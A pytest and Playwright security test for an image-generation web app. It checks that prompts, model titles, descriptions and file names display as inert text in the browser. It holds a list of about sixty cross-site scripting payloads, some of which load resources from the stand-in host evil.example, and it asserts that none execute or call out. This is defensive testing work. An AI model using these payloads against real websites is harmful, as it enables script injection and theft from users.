"""I04: what people and files say is text, wherever a browser shows it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
import yaml
from playwright.sync_api import Page, expect, sync_playwright

from app.web.people import COOKIE
from app.web.server import Running
from tests import tiny
from tests.browser import FLAGS, WAIT, find_browser
from tests.faults.conftest import SMALL, Asking

Guest = Callable[[int], Asking]

PAYLOADS = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<iframe src=javascript:parent.hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<form action=javascript:hit()><button autofocus>x</form>",
    "<a href=javascript:hit()>x</a>",
    "<math href=javascript:hit()>x</math>",
    "<style>@import 'http://evil.example/x'</style>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<img src=http://evil.example/x>",
    "![x](http://evil.example/x)",
    "[x](javascript:hit())",
    "![x](x\"onerror=\"hit())",
    "\"><script>hit()</script>",
    "'><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</style><script>hit()</script>",
    "</script><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "${hit()}",
    "{{hit()}}",
    "{{constructor.constructor('hit()')()}}",
    "`${hit()}`",
    "';hit();//",
    "\";hit();//",
    "\\\";hit();//",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "<scr<script>ipt>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror=\"&#104;it()\">",
    "<img src=x:x onerror\n=hit()>",
    "<x onclick=hit() autofocus tabindex=1>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<isindex type=image src=1 onerror=hit()>",
    "<table background=javascript:hit()>",
    "<div style=background:url(javascript:hit())>",
    "<div style=animation-name:x onanimationstart=hit()>",
    "<xss onafterscriptexecute=hit()>",
    "<img src=x onerror=import('http://evil.example/x')>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\u202e<script>hit()</script>",
]  # fmt: skip
ALL = " ".join(PAYLOADS)


@pytest.fixture
def words(program: Running, guest: Guest, owner: Asking, models: Path) -> Iterator[None]:
    """The owner has pictures, models and faults that say all of it."""
    path = tiny.write_model(models, name="evil", spec=tiny.EVERYTHING)
    config = yaml.safe_load((path / "config.yaml").read_text())
    config["atelier"] = {**config.get("atelier", {}), "title": ALL[:200], "description": ALL}
    (path / "config.yaml").write_text(yaml.safe_dump(config))
    (models / "<img src=x onerror=hit()>.safetensors").write_bytes(b"no model")
    program.studio.models.scan()
    for prompt in (*PAYLOADS[:5], ALL):
        assert owner.call({**SMALL, "prompt": prompt, "negative_prompt": ALL}).kind == "complete"
    yield
    for file in (*path.iterdir(), *models.glob("<img*")):
        file.unlink()
    path.rmdir()
    program.studio.models.scan()


@pytest.fixture
def page(program: Running) -> Iterator[tuple[Page, list[str]]]:
    """The owner's, and what it asked others for."""
    browser, asked = find_browser(), list[str]()
    assert browser is not None
    host = httpx.URL(program.address).host
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=str(browser), args=FLAGS)
        context = started.new_context(viewport={"width": 1280, "height": 900})
        context.add_cookies([{"name": COOKIE, "value": str(program.owner), "domain": host, "path": "/"}])
        context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; };")
        opened = context.new_page()
        opened.set_default_timeout(WAIT)
        opened.on("request", lambda request: asked.append(request.url))
        yield opened, asked
        started.close()


def test_i04_e11_words_are_text_wherever_they_are_shown(
    program: Running, words: None, page: tuple[Page, list[str]]
) -> None:
    opened, asked = page
    opened.goto(program.address)
    opened.wait_for_selector("body.restored")
    # A prompt in its field, a fault in the status line, a job in the list.
    prompt = opened.locator("#text-prompt textarea").first
    prompt.fill(ALL[:2000])
    opened.locator("#text-generate").click()
    opened.wait_for_selector("#picture img[src], #stage img[src]")
    # The history: small pictures, their words, everything that is known of one.
    opened.get_by_role("tab", name="History", exact=True).click()
    cells = opened.locator("#history .cell")
    cells.first.locator("img[src]").wait_for()
    for number in range(min(cells.count(), 4)):
        cells.nth(number).hover()
        cells.nth(number).click()
        opened.wait_for_timeout(200)
    expect(opened.locator("#history .panel")).to_contain_text("onerror=hit()>")
    # The models: titles, descriptions, names of files.
    opened.get_by_role("tab", name="Models", exact=True).click()
    opened.wait_for_timeout(500)
    opened.reload()
    opened.wait_for_selector("body.restored")
    assert opened.evaluate("window.hits") == 0
    assert "hit" not in opened.title()
    others = [url for url in asked if not url.startswith((program.address, "data:", "blob:"))]
    assert others == []
